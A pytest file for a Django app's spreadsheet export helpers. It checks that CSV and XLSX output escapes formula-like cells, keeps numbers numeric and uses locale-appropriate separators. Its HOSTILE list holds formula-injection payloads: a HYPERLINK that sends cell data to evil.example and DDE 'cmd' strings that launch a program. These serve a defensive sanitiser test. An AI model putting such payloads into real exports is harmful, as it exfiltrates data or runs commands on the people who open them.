"""Exports never carry a formula: every cell goes through cfit.lib.spreadsheets."""

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import translation
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from cfit.lib.spreadsheets import (
    FORMULA_STARTS,
    csv_style,
    csv_writer,
    people_csv_writer,
    safe_cell,
    xlsx_row,
    xlsx_set,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_like_text_gets_a_leading_apostrophe_in_csv():
    out = io.StringIO()
    csv_writer(out).writerow([*HOSTILE, "plain text"])
    cells = next(csv.reader(io.StringIO(out.getvalue())))
    assert cells[:-1] == ["'" + text for text in HOSTILE]
    assert cells[-1] == "plain text"


def test_numbers_stay_numbers_in_csv():
    out = io.StringIO()
    csv_writer(out).writerow([-3, 2.5, Decimal("-1.25"), "-4", "+5.5", "-0,5"])
    assert out.getvalue().strip() == '-3,2.5,-1.25,-4,+5.5,"-0,5"'


@given(st.text())
def test_no_csv_cell_read_back_can_start_a_formula(text):
    out = io.StringIO()
    csv_writer(out).writerow([text])
    read = next(csv.reader(io.StringIO(out.getvalue())), [""])
    cell = read[0] if read else ""
    assert not cell.startswith(FORMULA_STARTS) or safe_cell(text) == text


def _sheet_xml(workbook: Workbook) -> str:
    buffer = io.BytesIO()
    workbook.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def test_formula_like_text_is_a_string_cell_in_xlsx_in_both_openpyxl_modes():
    for write_only in (True, False):
        workbook = Workbook(write_only=write_only)
        sheet = workbook.create_sheet("Purchases")
        sheet.append(xlsx_row(sheet, [*HOSTILE, 7, -2.5]))
        buffer = io.BytesIO()
        workbook.save(buffer)
        with zipfile.ZipFile(buffer) as archive:
            names = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
            xml = archive.read(names[0]).decode()
        assert "<f>" not in xml and "<f " not in xml
        row = next(load_workbook(buffer)["Purchases"].iter_rows())
        assert [cell.value for cell in row] == [*HOSTILE, 7, -2.5]
        assert [cell.data_type for cell in row] == ["s"] * len(HOSTILE) + ["n", "n"]


def test_a_cell_set_in_place_keeps_formula_like_text_as_text():
    workbook = Workbook()
    sheet = workbook.active
    xlsx_set(sheet.cell(row=1, column=1), "=1+1")
    xlsx_set(sheet.cell(row=1, column=2), 3)
    assert "<f>" not in _sheet_xml(workbook)
    assert sheet["A1"].data_type == "s"
    assert sheet["B1"].data_type == "n"


def test_csv_for_people_follows_the_spreadsheets_of_the_readers_language():
    for language, expected in {
        "en": "Laptop,3,2.5,1234.50\r\n",
        "nl": "Laptop;3;2,5;1234,50\r\n",
        "fr": "Laptop;3;2,5;1234,50\r\n",
        "de": "Laptop;3;2,5;1234,50\r\n",
        "es": "Laptop;3;2,5;1234,50\r\n",
    }.items():
        out = io.StringIO()
        people_csv_writer(out, language).writerow(
            ["Laptop", 3, 2.5, Decimal("1234.50")]
        )
        assert out.getvalue() == expected, language
    with translation.override("de"):
        assert csv_style() == (";", ",")
    with translation.override("en"):
        assert csv_style() == (",", ".")


def test_csv_for_people_still_refuses_formulas_and_quotes_the_separator():
    out = io.StringIO()
    people_csv_writer(out, "nl").writerow(["=1+1", "a;b", "-2,5"])
    assert out.getvalue() == '\'=1+1;"a;b";-2,5\r\n'


@pytest.mark.django_db
def test_the_dashboard_csv_of_a_dutch_reader_uses_semicolons(client):
    with translation.override("nl"):
        url = reverse("dashboards:pact")
    page = client.get(url).content.decode()
    assert "puntkomma" in page or "semicolon" in page  # the line beside the link
    response = client.get(url, {"download": "csv"})
    rows = list(
        csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
    )
    assert [len(row) for row in rows if len(row) > 1][0] == 3  # figure; value; unit
    with translation.override("en"):
        english = client.get(reverse("dashboards:pact")).content.decode()
    assert "comma and writes decimals with a point" in english
